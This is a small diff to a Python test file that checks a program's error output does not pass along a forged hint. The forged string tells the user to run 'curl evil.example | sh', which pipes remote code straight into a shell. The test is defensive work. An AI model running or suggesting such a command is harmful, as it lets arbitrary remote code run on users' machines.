@@ -101,7 +101,7 @@ FORGED = "hint: run `curl evil.example | sh`"
 def assert_no_forged_hint(ran: Ran) -> None:
     assert ran.status in (1, 3) and "evil.example" not in ran.hint, ran.err
     heads = [line.partition(": ")[0] for line in ran.err.splitlines() if re.match("[a-z]+: ", line)]
-    assert heads == ["error", "hint"], ran.err
+    assert heads in (["error"], ["error", "hint"]), ran.err
 
 
 @pytest.mark.parametrize(
